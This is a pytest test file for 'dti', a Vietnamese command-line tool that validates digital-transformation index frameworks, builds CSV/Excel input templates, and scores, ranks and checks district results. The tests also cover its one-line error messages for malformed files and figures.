"""The `dti` command: every verb, its output formats, and how it refuses bad input."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from dti.cli import main
from dti.engine import read_table

ROOT = Path(__file__).resolve().parents[1]
NINH_BINH = str(ROOT / "frameworks" / "ninh-binh-2023-huyen.yaml")
NINH_BINH_RESULTS = str(ROOT / "examples" / "ninh-binh-2023-ket-qua.csv")

FRAMEWORK = """format: dti/1
code: thu-2023-huyen
name: Bộ chỉ số thử
level: huyen
year: 2023
precision: 2
max: 100
ranking: {basis: total, decimals: 2, ties: competition}
general_info:
  - {code: dan_so, label: Dân số, type: count, unit: người}
indices:
  - code: "I"
    name: Nhận thức số
    max: 40
    indicators:
      - code: I.1
        name: Trưởng ban Ban chỉ đạo
        max: 10
        inputs:
          - name: head
            label: Trưởng ban là
            type: choice
            options: {chu_tich: Bí thư/Chủ tịch, pho: Phó Bí thư/Phó Chủ tịch, khac: Khác}
        scoring: {method: choice, input: head, points: {chu_tich: max_points, pho: max_points / 2, khac: 0}}
      - code: I.2
        name: Kế hoạch chuyển đổi số
        max: 10
        inputs: [{name: issued, label: Đã ban hành, type: yes_no}]
        scoring: {method: yes_no, input: issued}
      - code: I.3
        name: Tỷ lệ dân số có điện thoại thông minh
        max: 10
        inputs:
          - {name: a, label: Số người có điện thoại thông minh, type: count}
          - {name: b, label: Dân số, from: dan_so}
        scoring: {method: ratio, numerator: a, denominator: b}
      - code: I.4
        name: Chấm trực tiếp
        max: 10
        scoring: {method: manual}
  - code: "II"
    name: Hoạt động
    max: 60
    indicators:
      - code: II.1
        name: Tỷ lệ hồ sơ trực tuyến
        max: 60
        inputs: [{name: p, label: Tỷ lệ hồ sơ trực tuyến, type: percent}]
        scoring: {method: ratio, value: p}
"""

INPUTS = """format: dti-inputs/1
framework: thu-2023-huyen
units:
  - unit: UBND huyện A
    group: huyen
    general: {dan_so: 1000}
    indicators:
      I.1: {values: {head: pho}, self_score: 10}
      I.2: {values: {issued: Có}, self_score: 10}
      I.3: {values: {a: 812}, self_score: "8,12"}
      I.4: {score: 7}
      II.1: {values: {p: 50}, self_score: 30}
  - unit: UBND huyện B
    group: huyen
    general: {dan_so: 2000}
    indicators:
      I.1: {values: {head: chu_tich}}
      I.2: {values: {issued: không}}
      I.3: {values: {a: 1000}}
      I.4: {score: 10}
      II.1: {values: {p: 100}}
"""

# Computed for the inputs above:
#   A: I.1 5 (Phó), I.2 10, I.3 812/1000 × 10 = 8,12, I.4 7, II.1 50 % × 60 = 30 → 60,12
#   B: I.1 10, I.2 0, I.3 1000/2000 × 10 = 5, I.4 10, II.1 60 → 85


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def bad(*argv: str, names: tuple[str, ...]) -> str:
    """Run a command that must be refused: exit 2, one 'dti: ' line naming `names`, no traceback."""
    code, out, err = run(*argv)
    assert code == 2, (code, out, err)
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("dti: "), err
    assert err.endswith("\n")
    assert "Traceback" not in err, err
    for name in names:
        assert name in lines[0], (name, lines[0])
    return lines[0]


@pytest.fixture
def fw(tmp_path: Path) -> str:
    path = tmp_path / "thu-2023-huyen.yaml"
    path.write_text(FRAMEWORK, encoding="utf-8")
    return str(path)


@pytest.fixture
def inputs(tmp_path: Path) -> str:
    path = tmp_path / "so-lieu.yaml"
    path.write_text(INPUTS, encoding="utf-8")
    return str(path)


def write(path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    return str(path)


def write_xlsx(path: Path, sheets: dict[str, list[list[object]]]) -> str:
    wb = openpyxl.Workbook()
    for n, (title, rows) in enumerate(sheets.items()):
        ws = wb.active if n == 0 else wb.create_sheet()
        ws.title = title
        for row in rows:
            ws.append(row)
    wb.save(path)
    return str(path)


# --- help --------------------------------------------------------------------------------


def test_help_in_vietnamese_from_the_installed_command() -> None:
    dti = ROOT / ".venv" / "bin" / "dti"
    done = subprocess.run([str(dti), "--help"], capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0
    assert "cách dùng" in done.stdout
    assert "các lệnh" in done.stdout
    for verb in ("validate", "template", "score", "rank", "check"):
        assert verb in done.stdout
    assert done.stderr == ""


def test_no_verb_prints_help_and_exits_2() -> None:
    code, out, _ = run()
    assert code == 2
    assert "cách dùng" in out and "các lệnh" in out


def test_help_goes_to_the_given_stdout() -> None:
    code, out, _ = run("--help")
    assert code == 0
    assert "cách dùng" in out


def test_usage_error_goes_to_the_given_stderr() -> None:
    code, _, err = run("score", NINH_BINH)
    assert code == 2
    assert "thiếu tham số bắt buộc" in err


# --- validate ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(p.stem for p in (ROOT / "frameworks").glob("*.yaml")))
def test_validate_shipped_frameworks(name: str) -> None:
    code, out, err = run("validate", str(ROOT / "frameworks" / f"{name}.yaml"))
    assert code == 0, out
    assert err == ""
    lines = out.splitlines()
    assert len(lines) == 1
    assert lines[0].startswith(f"{name}: hợp lệ — ")


def test_validate_summary_line(fw: str) -> None:
    code, out, _ = run("validate", fw)
    assert code == 0
    assert out == (
        "thu-2023-huyen: hợp lệ — Bộ chỉ số thử; 2 chỉ số chính, 5 chỉ số thành phần, tổng điểm tối đa 100\n"
    )


def test_validate_broken_framework_lists_every_problem(tmp_path: Path) -> None:
    path = write(
        tmp_path / "hong.yaml",
        "format: dti/1\ncode: hong\nname: Hỏng\nlevel: quan\nyear: năm nay\nindices:\n"
        "  - code: '1'\n    name: A\n    max: 10\n    indicators:\n"
        "      - {code: '1.1', name: B, max: 5, scoring: {method: khong_co}}\n"
        "      - {code: '1.1', name: C, max: 3, scoring: {method: manual}}\n",
    )
    code, out, err = run("validate", path)
    assert code == 1
    assert err == ""
    lines = out.splitlines()
    problems = lines[1:]
    assert lines[0] == f"{path}: {len(problems)} lỗi"
    assert all(p.startswith(f"  {path}: ") for p in problems)
    # the four independent mistakes are each reported, with their path in the document
    for fragment in ("level:", "year:", "indices[1].indicators[1.1].scoring.method:", "indices[1].indicators[1].code:"):
        assert sum(fragment in p for p in problems) == 1, (fragment, problems)
    assert "'khong_co'" in out and "trùng" in out


def test_validate_yaml_syntax_error_is_a_problem(tmp_path: Path) -> None:
    path = write(tmp_path / "sai.yaml", "format: dti/1\nindices: [\n")
    code, out, _ = run("validate", path)
    assert code == 1
    assert "YAML sai cú pháp" in out
    assert "dòng" in out


def test_validate_bad_files(tmp_path: Path) -> None:
    bad("validate", str(tmp_path / "khong-co.yaml"), names=(str(tmp_path / "khong-co.yaml"), "không tìm thấy"))
    binary = tmp_path / "nhi-phan.yaml"
    binary.write_bytes(b"\xff\xfe\x00\x01garbage\x80")
    bad("validate", str(binary), names=(str(binary),))
    bad("validate", str(tmp_path), names=(str(tmp_path),))


# --- template ----------------------------------------------------------------------------

TEMPLATE_HEADERS = [
    "Đơn vị",
    "Nhóm",
    "Mã",
    "Chỉ số",
    "Trường",
    "Nội dung cần nhập",
    "Kiểu",
    "Đơn vị tính",
    "Điểm tối đa",
    "Cách tính điểm",
    "Giá trị",
]


def test_template_xlsx(fw: str, tmp_path: Path) -> None:
    target = tmp_path / "mau.xlsx"
    code, out, err = run("template", fw, "-o", str(target))
    assert (code, err) == (0, "")
    assert str(target) in out and "thu-2023-huyen" in out
    wb = openpyxl.load_workbook(target)
    ws = wb.active
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0] == TEMPLATE_HEADERS
    assert f"({len(rows) - 1} dòng)" in out
    keyed = {(r[2], r[4]): r for r in rows[1:]}
    assert keyed[("framework", "code")][10] == "thu-2023-huyen"
    assert keyed[("general", "dan_so")][5] == "Dân số"
    for key in [("I.1", "head"), ("I.2", "issued"), ("I.3", "a"), ("I.4", "score"), ("II.1", "p")]:
        assert key in keyed, key
    for code_ in ("I.1", "I.2", "I.3", "I.4", "II.1"):
        assert (code_, "self_score") in keyed and (code_, "evidence") in keyed
    assert ("I.3", "b") not in keyed  # taken from general info
    assert keyed[("I.3", "a")][8] == 10  # max
    assert keyed[("I.3", "a")][6] == "số nguyên"
    assert all(r[10] is None for r in rows[2:])  # nothing filled but the framework row
    # drop-downs on the yes/no and choice values
    formulas = {dv.formula1 for dv in ws.data_validations.dataValidation}
    assert '"Có,Không"' in formulas
    assert '"chu_tich,pho,khac"' in formulas


def test_template_csv_filled_then_scored(fw: str, tmp_path: Path) -> None:
    target = tmp_path / "mau.csv"
    code, _, _ = run("template", fw, "-o", str(target))
    assert code == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 with a BOM
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == TEMPLATE_HEADERS
    fill = {
        ("general", "dan_so"): "1.000.000",
        ("I.1", "head"): "Bí thư/Chủ tịch",
        ("I.2", "issued"): "Có",
        ("I.3", "a"): "812000",
        ("I.3", "self_score"): "9",
        ("II.1", "p"): "81,18",
    }
    for row in rows[1:]:
        row[0] = "UBND huyện Kim Bảng"
        row[10] = fill.get((row[2], row[4]), row[10])
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    target.write_text(buffer.getvalue(), encoding="utf-8-sig")
    code, out, err = run("score", fw, str(target), "--format", "json")
    assert (code, err) == (0, "")
    records = {r["code"]: r for r in json.loads(out)}
    assert records["I.1"]["score"] == 10
    assert records["I.2"]["score"] == 10
    assert records["I.3"]["score"] == 8.12
    assert records["I.3"]["claimed"] == 9
    assert records["I.4"]["status"] == "missing"
    assert records["II.1"]["score"] == 48.71  # 81,18 % × 60
    assert records["total"]["score"] == 76.83
    assert {r["unit"] for r in records.values()} == {"UBND huyện Kim Bảng"}


def test_template_xlsx_filled_then_scored(fw: str, tmp_path: Path) -> None:
    target = tmp_path / "mau.xlsx"
    assert run("template", fw, "-o", str(target))[0] == 0
    wb = openpyxl.load_workbook(target)
    ws = wb.active
    fill = {("general", "dan_so"): 1000, ("I.3", "a"): 500, ("I.2", "issued"): "Không", ("I.4", "score"): 4.5}
    for row in ws.iter_rows(min_row=2):
        key = (row[2].value, row[4].value)
        if key in fill:
            row[10].value = fill[key]
    wb.save(target)
    code, out, err = run("score", fw, str(target), "--format", "csv")
    assert (code, err) == (0, "")
    records = {r["code"]: r for r in csv.DictReader(io.StringIO(out))}
    assert records["I.3"]["score"] == "5.00"
    assert records["I.2"]["score"] == "0.00"
    assert records["I.4"]["score"] == "4.50"
    assert records["total"]["score"] == "9.50"
    assert records["total"]["unit"] == "mau"  # no unit column filled: named after the file


@pytest.mark.parametrize("name", sorted(p.stem for p in (ROOT / "frameworks").glob("*.yaml")))
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_unfilled_template_of_every_framework_is_read_back(tmp_path: Path, name: str, suffix: str) -> None:
    framework = str(ROOT / "frameworks" / f"{name}.yaml")
    target = tmp_path / f"mau{suffix}"
    assert run("template", framework, "-o", str(target))[0] == 0
    code, out, err = run("score", framework, str(target), "--format", "json")
    assert (code, err) == (0, "")
    total = next(r for r in json.loads(out) if r["level"] == "total")
    assert total["score"] == 0


def test_template_bad_input(fw: str, tmp_path: Path) -> None:
    bad("template", fw, "-o", str(tmp_path / "mau.txt"), names=(str(tmp_path / "mau.txt"), ".xlsx"))
    bad("template", fw, "-o", str(tmp_path / "khong-co" / "mau.csv"), names=(str(tmp_path / "khong-co" / "mau.csv"),))
    bad("template", fw, "-o", str(tmp_path / "khong-co" / "mau.xlsx"), names=(str(tmp_path / "khong-co"),))
    missing = str(tmp_path / "khong-co.yaml")
    bad("template", missing, "-o", str(tmp_path / "mau.csv"), names=(missing, "không tìm thấy"))
    broken = write(tmp_path / "hong.yaml", "format: dti/1\ncode: hong\n")
    line = bad("template", broken, "-o", str(tmp_path / "mau.csv"), names=(broken, "dti validate"))
    assert "lỗi" in line
    assert not (tmp_path / "mau.csv").exists()


# --- score -------------------------------------------------------------------------------


def test_score_table(fw: str, inputs: str) -> None:
    code, out, err = run("score", fw, inputs)
    assert (code, err) == (0, "")
    assert "UBND huyện A (nhóm huyen) — Bộ chỉ số thử" in out
    assert "UBND huyện B (nhóm huyen)" in out
    assert "60,12" in out and "85,00" in out
    # claimed beside computed, with the difference
    assert "Tự chấm" in out and "Chênh" in out
    line_i1 = next(line for line in out.splitlines() if line.startswith("I.1 ") and "5,00" in line)
    assert "tự chấm cao hơn công thức" in line_i1
    assert "10" in line_i1
    assert "hạng 1" in out and "hạng 2" in out


def test_score_table_compares_an_index_claimed_in_part(fw: str, inputs: str) -> None:
    # Regression: the text hid the claim of an index with a claim for only some indicators,
    # while CSV/JSON printed the sum of the claims alone; both now show the engine's figure.
    out = run("score", fw, inputs)[1]
    index_i = next(line for line in out.splitlines() if line.startswith("I ") and "NHẬN THỨC SỐ" in line)
    assert index_i.split()[-4:] == ["40", "30,12", "35,12", "5,00"]
    total = next(line for line in out.splitlines() if "TỔNG ĐIỂM" in line and "60,12" in line)
    assert "65,12" in total and "5,00" in total


def test_score_explain_prints_traces(fw: str, inputs: str) -> None:
    code, out, _ = run("score", fw, inputs, "--explain")
    assert code == 0
    trace = next(line for line in out.splitlines() if "812 / 1.000" in line)
    assert "81,2 %" in trace and "8,12 điểm" in trace
    assert "Phó Bí thư/Phó Chủ tịch = 5 điểm" in out
    assert "điểm nhập 7 = 7 điểm" in out
    plain = run("score", fw, inputs)[1]
    assert "812 / 1.000" not in plain


def test_score_csv(fw: str, inputs: str) -> None:
    code, out, _ = run("score", fw, inputs, "--format", "csv", "--explain")
    assert code == 0
    records = list(csv.DictReader(io.StringIO(out)))
    assert list(records[0]) == [
        "unit",
        "group",
        "level",
        "code",
        "name",
        "max",
        "score",
        "claimed",
        "status",
        "note",
        "trace",
    ]
    by = {(r["unit"], r["code"]): r for r in records}
    assert by[("UBND huyện A", "I.3")]["score"] == "8.12"
    assert by[("UBND huyện A", "I.3")]["claimed"] == "8.12"
    assert "8,12 điểm" in by[("UBND huyện A", "I.3")]["trace"]
    assert by[("UBND huyện A", "I")]["level"] == "index"
    assert by[("UBND huyện A", "I")]["score"] == "30.12"
    assert by[("UBND huyện A", "I")]["claimed"] == "35.12"  # I.4 has no claim: its formula's 7 counts
    assert by[("UBND huyện A", "total")]["score"] == "60.12"
    assert by[("UBND huyện A", "total")]["claimed"] == "65.12"
    assert by[("UBND huyện B", "total")]["score"] == "85.00"
    assert by[("UBND huyện B", "total")]["note"] == "hạng 1"


def test_score_json(fw: str, inputs: str) -> None:
    code, out, _ = run("score", fw, inputs, "--format", "json")
    assert code == 0
    records = json.loads(out)
    assert isinstance(records, list)
    by = {(r["unit"], r["code"]): r for r in records}
    assert by[("UBND huyện A", "I.1")]["score"] == 5
    assert by[("UBND huyện A", "I.1")]["claimed"] == 10
    assert by[("UBND huyện A", "I.1")]["status"] == "ok"
    assert by[("UBND huyện A", "total")]["score"] == 60.12
    assert by[("UBND huyện B", "I.3")]["claimed"] is None
    assert "trace" not in by[("UBND huyện A", "I.1")]


def test_score_xlsx(fw: str, inputs: str, tmp_path: Path) -> None:
    target = tmp_path / "ket-qua.xlsx"
    code, out, err = run("score", fw, inputs, "--format", "xlsx", "-o", str(target))
    assert (code, out, err) == (0, "", "")
    ws = openpyxl.load_workbook(target).active
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0][:7] == ["unit", "group", "level", "code", "name", "max", "score"]
    by = {(r[0], r[3]): r for r in rows[1:]}
    assert by[("UBND huyện A", "I.3")][6] == pytest.approx(8.12)
    assert isinstance(by[("UBND huyện A", "total")][6], float)


def test_score_output_format_from_extension(fw: str, inputs: str, tmp_path: Path) -> None:
    target = tmp_path / "ket-qua.json"
    assert run("score", fw, inputs, "-o", str(target)) == (0, "", "")
    assert json.loads(target.read_text(encoding="utf-8"))[0]["unit"] == "UBND huyện A"
    text_target = tmp_path / "ket-qua.txt"
    assert run("score", fw, inputs, "-o", str(text_target)) == (0, "", "")
    assert "60,12" in text_target.read_text(encoding="utf-8")


@pytest.mark.parametrize("typed", ["١٢", "１２"])
def test_score_refuses_digits_other_than_ascii(fw: str, tmp_path: Path, typed: str) -> None:
    """Issue 10 §4: "١٢" is refused with one line, never read as 12."""
    path = write(tmp_path / "so.csv", f"unit,code,field,value\nA,general,dan_so,1000\nA,I.3,a,{typed}\n")
    bad("score", fw, path, names=(path, "dòng 3, cột D", f"'{typed}' có chữ số không phải 0–9"))


def test_score_refuses_a_figure_beyond_the_cap(fw: str, tmp_path: Path) -> None:
    path = write(tmp_path / "lon.csv", f"unit,code,field,value\nA,general,dan_so,{'9' * 4000}\nA,I.3,a,5\n")
    bad("score", fw, path, names=(path, "dòng 2, cột D", "tối đa 15 chữ số"))


def test_score_bad_input(fw: str, inputs: str, tmp_path: Path) -> None:
    missing = str(tmp_path / "khong-co.yaml")
    bad("score", fw, missing, names=(missing, "không tìm thấy"))
    bad("score", str(tmp_path / "khong-co-bcs.yaml"), inputs, names=("khong-co-bcs.yaml",))

    corrupt = tmp_path / "hong.xlsx"
    corrupt.write_bytes(b"PK\x03\x04 not a workbook")
    bad("score", fw, str(corrupt), names=(str(corrupt), "không mở được tệp Excel"))

    not_xlsx = tmp_path / "zip.xlsx"
    with zipfile.ZipFile(not_xlsx, "w") as archive:
        archive.writestr("a.txt", "x")
    bad("score", fw, str(not_xlsx), names=(str(not_xlsx), "không mở được tệp Excel"))

    text_cell = write(tmp_path / "chu.csv", "unit,code,field,value\nA,general,dan_so,1000\nA,I.3,a,nhiều\n")
    bad("score", fw, text_cell, names=(text_cell, "dòng 3, cột D", "'nhiều'"))

    xlsx_text = write_xlsx(
        tmp_path / "chu.xlsx", {"Nhập liệu": [["unit", "code", "field", "value"], ["A", "I.3", "a", "x"]]}
    )
    bad("score", fw, xlsx_text, names=(xlsx_text, "trang 'Nhập liệu', dòng 2, cột D"))

    wrong_sheet = write_xlsx(
        tmp_path / "trang.xlsx", {"Hướng dẫn": [], "Nhập liệu": [["code", "field", "value"], ["I.3", "a", 5]]}
    )
    bad("score", fw, wrong_sheet, names=(wrong_sheet, "trang 'Hướng dẫn'"))

    empty = write(tmp_path / "rong.csv", ",,,\n\n , ,\n")
    bad("score", fw, empty, names=(empty, "không có dữ liệu"))

    header_only = write(tmp_path / "tieu-de.csv", "unit,code,field,value\n,,,\n")
    bad("score", fw, header_only, names=(header_only,))

    bad("score", fw, inputs, "--format", "xlsx", names=("-o",))

    other = write(tmp_path / "khac.yaml", INPUTS.replace("framework: thu-2023-huyen", "framework: ha-nam-2023-huyen"))
    bad("score", fw, other, names=(other, "framework", "ha-nam-2023-huyen", "thu-2023-huyen"))

    other_csv = write(tmp_path / "khac.csv", "code,field,value\nframework,code,ha-nam-2023-huyen\n")
    bad("score", fw, other_csv, names=(other_csv, "ha-nam-2023-huyen"))

    not_template = write(tmp_path / "bang.csv", "unit,I.1,I.2\nA,10,5\n")
    bad("score", fw, not_template, names=(not_template, "thiếu cột 'code'"))

    unknown = write(tmp_path / "ma.csv", "code,field,value\nZ.9,a,1\n")
    bad("score", fw, unknown, names=(unknown, "'Z.9'"))

    syntax = write(tmp_path / "cu-phap.yaml", "format: dti-inputs/1\nunits: [\n")
    bad("score", fw, syntax, names=(syntax, "dòng 3"))

    bad("score", fw, write(tmp_path / "so-lieu.txt", "x"), names=("so-lieu.txt",))
    bad("score", fw, inputs, "-o", str(tmp_path / "khong-co" / "kq.csv"), names=("khong-co",))


# --- rank --------------------------------------------------------------------------------

NINH_BINH_RANKING = [
    ("UBND thành phố Ninh Bình", "605,21", "605.21", 1),
    ("UBND thành phố Tam Điệp", "593,47", "593.47", 2),
    ("UBND huyện Gia Viễn", "574,7", "574.7", 3),
    ("UBND huyện Nho Quan", "567,98", "567.98", 4),
    ("UBND huyện Kim Sơn", "556,98", "556.98", 5),
    ("UBND huyện Yên Mô", "553,09", "553.09", 6),
    ("UBND huyện Yên Khánh", "551,01", "551.01", 7),
    ("UBND huyện Hoa Lư", "523,08", "523.08", 8),
]


def test_rank_ninh_binh_table() -> None:
    code, out, err = run("rank", NINH_BINH, NINH_BINH_RESULTS)
    assert (code, err) == (0, "")
    lines = out.splitlines()[2:]
    assert len(lines) == 8
    for line, (unit, total, _, rank) in zip(lines, NINH_BINH_RANKING, strict=True):
        assert line.startswith(unit)
        cells = line.split()
        assert cells[-1] == str(rank)
        assert total in cells


def test_rank_ninh_binh_csv_uses_a_dot() -> None:
    code, out, _ = run("rank", NINH_BINH, NINH_BINH_RESULTS, "--format", "csv")
    assert code == 0
    records = list(csv.DictReader(io.StringIO(out)))
    assert [(r["unit"], r["rank"]) for r in records] == [(u, str(k)) for u, _, _, k in NINH_BINH_RANKING]
    for record, (_, _, total, _) in zip(records, NINH_BINH_RANKING, strict=True):
        assert float(record["total"]) == float(total)
        assert "," not in record["total"]
    assert records[0]["3"] == "37.90"  # every figure at the framework's precision (2), as published
    assert records[0]["8"] == "101.77"


def test_rank_ninh_binh_json_uses_numbers() -> None:
    code, out, _ = run("rank", NINH_BINH, NINH_BINH_RESULTS, "--format", "json")
    assert code == 0
    records = json.loads(out)
    assert [(r["unit"], r["total"], r["rank"]) for r in records] == [
        (u, float(t), k) for u, _, t, k in NINH_BINH_RANKING
    ]
    assert records[4]["1"] == 58.33


def test_rank_xlsx_needs_an_output_file(tmp_path: Path) -> None:
    bad("rank", NINH_BINH, NINH_BINH_RESULTS, "--format", "xlsx", names=("-o",))
    target = tmp_path / "xep-hang.xlsx"
    assert run("rank", NINH_BINH, NINH_BINH_RESULTS, "-o", str(target)) == (0, "", "")
    rows = [[c.value for c in r] for r in openpyxl.load_workbook(target).active.iter_rows()]
    assert rows[0][:2] == ["unit", "group"]
    rank_col = rows[0].index("rank")
    total_col = rows[0].index("total")
    assert [(r[0], r[rank_col]) for r in rows[1:]] == [(u, k) for u, _, _, k in NINH_BINH_RANKING]
    assert rows[1][total_col] == pytest.approx(605.21)


def test_rank_within_groups(fw: str, tmp_path: Path) -> None:
    results = write(tmp_path / "kq.csv", "unit,group,I,II\nA,g1,20,10\nB,g1,30,10\nC,g2,5,5\n")
    code, out, _ = run("rank", fw, results, "--format", "json")
    assert code == 0
    assert [(r["unit"], r["group"], r["rank"]) for r in json.loads(out)] == [
        ("B", "g1", 1),
        ("A", "g1", 2),
        ("C", "g2", 1),
    ]


EIGHT_HUNDRED = """format: dti/1
code: tam-tram-2023-huyen
name: Bộ chỉ số 800 điểm
level: huyen
year: 2023
precision: 3
max: 800
ranking: {basis: percent, decimals: 2, ties: competition}
indices:
  - {code: "I", name: Một, max: 400}
  - {code: "II", name: Hai, max: 400}
"""
# 649 of 800 = 81,125 % (81,13 half-up); Yên Mỹ 81,13 % exactly; Ba Vì 81,12375 % (81,12).
EIGHT_HUNDRED_RESULTS = """unit,I,II
UBND huyện Gia Lâm,324.5,324.5
UBND huyện Ba Vì,324.5,324.49
UBND huyện Đông Anh,324.5,324.5
UBND huyện Yên Mỹ,324.52,324.52
UBND huyện Duy Tiên,324.5,324.5
"""
EIGHT_HUNDRED_RANKING = [  # the exact value orders a tie, then the Vietnamese alphabet (Đ after D)
    ("UBND huyện Yên Mỹ", "649,04", "81,13", 1),
    ("UBND huyện Duy Tiên", "649", "81,13", 1),
    ("UBND huyện Đông Anh", "649", "81,13", 1),
    ("UBND huyện Gia Lâm", "649", "81,13", 1),
    ("UBND huyện Ba Vì", "648,99", "81,12", 5),
]


@pytest.fixture
def eight_hundred(tmp_path: Path) -> tuple[str, str]:
    return write(tmp_path / "tam-tram.yaml", EIGHT_HUNDRED), write(tmp_path / "kq.csv", EIGHT_HUNDRED_RESULTS)


def test_rank_rounds_half_up_and_orders_a_tie_by_exact_value_then_name(eight_hundred: tuple[str, str]) -> None:
    # Regression: the percent column was rounded half-even (81,12 for 81,125 %) while the unit
    # shared the rank of one at 81,13 %; names sorted by code point put Đông Anh after Gia Lâm.
    code, out, err = run("rank", *eight_hundred)
    assert (code, err) == (0, "")
    lines = out.splitlines()[2:]
    assert len(lines) == len(EIGHT_HUNDRED_RANKING)
    for line, (unit, total, percent, rank) in zip(lines, EIGHT_HUNDRED_RANKING, strict=True):
        assert line.startswith(unit)
        assert line.split()[-4:] == [total, "800", percent, str(rank)]


def test_rank_csv_json_xlsx_carry_the_engine_rounded_numbers(eight_hundred: tuple[str, str], tmp_path: Path) -> None:
    expected = [(unit, percent.replace(",", "."), rank) for unit, _, percent, rank in EIGHT_HUNDRED_RANKING]
    records = list(csv.DictReader(io.StringIO(run("rank", *eight_hundred, "--format", "csv")[1])))
    assert [(r["unit"], r["percent"], int(r["rank"])) for r in records] == expected
    assert (records[1]["total"], records[1]["max"], records[1]["I"]) == ("649.000", "800.000", "324.500")
    records = json.loads(run("rank", *eight_hundred, "--format", "json")[1])
    assert [(r["unit"], r["percent"], r["rank"]) for r in records] == [(u, float(p), k) for u, p, k in expected]
    target = tmp_path / "xep-hang.xlsx"
    assert run("rank", *eight_hundred, "-o", str(target)) == (0, "", "")
    sheet = openpyxl.load_workbook(target).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    column = rows[0].index("percent")
    assert [(row[0], row[column]) for row in rows[1:]] == [(u, float(p)) for u, p, _ in expected]
    assert sheet.cell(row=2, column=column + 1).number_format == "0.00"


def test_rank_bad_input(fw: str, tmp_path: Path) -> None:
    missing = str(tmp_path / "khong-co.csv")
    bad("rank", NINH_BINH, missing, names=(missing, "không tìm thấy"))

    corrupt = tmp_path / "hong.xlsx"
    corrupt.write_bytes(bytes(range(256)) * 4)
    bad("rank", NINH_BINH, str(corrupt), names=(str(corrupt), "không mở được tệp Excel"))

    latin = tmp_path / "latin.csv"
    latin.write_bytes("unit,1\nCafé,1\n".encode("latin-1"))
    bad("rank", NINH_BINH, str(latin), names=(str(latin), "UTF-8"))

    unknown = write(tmp_path / "ma-la.csv", "unit,I,II,III\nA,20,10,5\n")
    bad("rank", fw, unknown, names=(unknown, "dòng 1, cột D", "'III'"))

    text_cell = write(tmp_path / "chu.csv", "unit,I,II\nA,20,10\nB,hai mươi,10\n")
    bad("rank", fw, text_cell, names=(text_cell, "dòng 3, cột B", "'hai mươi'"))

    empty = write(tmp_path / "rong.csv", "\n,,\n \n")
    bad("rank", fw, empty, names=(empty,))

    wrong_sheet = write_xlsx(tmp_path / "trang.xlsx", {"Bìa": [], "Điểm": [["unit", "I", "II"], ["A", 1, 2]]})
    bad("rank", fw, wrong_sheet, names=(wrong_sheet, "trang 'Bìa'"))

    duplicate = write(tmp_path / "trung.csv", "unit,I,II\nA,20,10\nA,10,10\n")
    bad("rank", fw, duplicate, names=(duplicate, "dòng 3", "'A'"))

    incomplete = write(tmp_path / "thieu.csv", "unit,I,II\nA,20,10\nB,10,\n")
    bad("rank", fw, incomplete, names=(incomplete, "dòng 3", "II"))

    no_unit = write(tmp_path / "khong-ten.csv", "name,I,II\nA,20,10\n")
    bad("rank", fw, no_unit, names=(no_unit, "'unit'"))

    bad("rank", fw, write(tmp_path / "kq.txt", "x"), names=("kq.txt",))


# --- check -------------------------------------------------------------------------------


def test_check_ninh_binh_table() -> None:
    code, out, err = run("check", NINH_BINH, NINH_BINH_RESULTS)
    assert code == 1
    assert err == ""
    lines = out.splitlines()
    assert lines[0] == f"{NINH_BINH_RESULTS}: 3 sai sót"
    assert len(lines) == 4
    assert lines[1].startswith("  UBND thành phố Ninh Bình · 4: ")
    assert "công bố 62,6, tính lại 63,6" in lines[1]
    assert "dòng 2" in lines[1]
    assert "công bố 61,82, tính lại 60,82" in lines[2]
    assert lines[3].startswith("  UBND huyện Kim Sơn · 8: ")
    assert "công bố 66,23, tính lại 79,23" in lines[3]


FINDING_KEYS = {"unit", "code", "kind", "published", "expected", "place", "note", "message"}


def test_check_ninh_binh_json() -> None:
    """The JSON findings carry the cell's place and the Vietnamese message, as the text output does."""
    code, out, _ = run("check", NINH_BINH, NINH_BINH_RESULTS, "--format", "json")
    assert code == 1
    findings = json.loads(out)
    assert isinstance(findings, list)
    for finding in findings:
        assert set(finding) == FINDING_KEYS
        assert finding["message"].endswith(f"[{finding['place']}]") and "dòng" in finding["place"]
    brief = [{k: f[k] for k in ("unit", "code", "kind", "published", "expected")} for f in findings]
    assert brief == [
        {"unit": "UBND thành phố Ninh Bình", "code": "4", "kind": "sum", "published": 62.6, "expected": 63.6},
        {"unit": "UBND thành phố Ninh Bình", "code": "5", "kind": "sum", "published": 61.82, "expected": 60.82},
        {"unit": "UBND huyện Kim Sơn", "code": "8", "kind": "sum", "published": 66.23, "expected": 79.23},
    ]


CLEAN = "unit,I.1,I.2,I.3,I.4,I,II.1,II,total,rank\nA,10,10,5,5,30,50,50,80,1\nB,5,5,5,5,20,20,20,40,2\n"


def test_check_clean_table(fw: str, tmp_path: Path) -> None:
    results = write(tmp_path / "kq.csv", CLEAN)
    code, out, err = run("check", fw, results)
    assert (code, err) == (0, "")
    assert out == f"{results}: không thấy sai sót (2 đơn vị)\n"
    code, out, _ = run("check", fw, results, "--format", "json")
    assert code == 0
    assert json.loads(out) == []


def test_check_json_all_kinds(fw: str, tmp_path: Path) -> None:
    text = "unit,I.1,I.2,I,II,Z.1,total,rank\nA,11,-1,10,50,1,61,2\nB,1,1,2,5,1,7,1\nB,1,1,2,5,1,7,1\n"
    code, out, _ = run("check", fw, write(tmp_path / "kq.csv", text), "--format", "json")
    assert code == 1
    findings = json.loads(out)
    assert all(set(f) == FINDING_KEYS for f in findings)
    kinds = {(f["unit"], f["code"], f["kind"]) for f in findings}
    assert ("", "Z.1", "unknown_code") in kinds
    assert ("B", "", "duplicate_unit") in kinds
